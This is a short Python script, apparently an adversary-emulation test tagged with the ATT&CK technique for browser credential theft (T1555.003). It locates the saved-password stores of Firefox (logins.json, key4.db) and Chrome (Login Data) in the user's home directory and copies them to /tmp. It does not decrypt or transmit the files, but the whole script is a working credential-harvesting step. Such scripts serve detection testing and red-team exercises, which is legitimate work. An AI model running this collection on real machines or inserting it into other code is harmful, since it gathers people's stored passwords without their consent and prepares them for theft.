#!/usr/bin/env python3
# title: Python copies the passwords that browsers keep
# technique: T1555.003
# needs: python3
# as: user
# short: yes

import glob, os, shutil
home = os.environ["HOME"]
for pattern in (".mozilla/firefox/*/logins.json", ".mozilla/firefox/*/key4.db", ".config/google-chrome/Default/Login Data"):
    for path in glob.glob(f"{home}/{pattern}"):
        shutil.copy(path, "/tmp/")
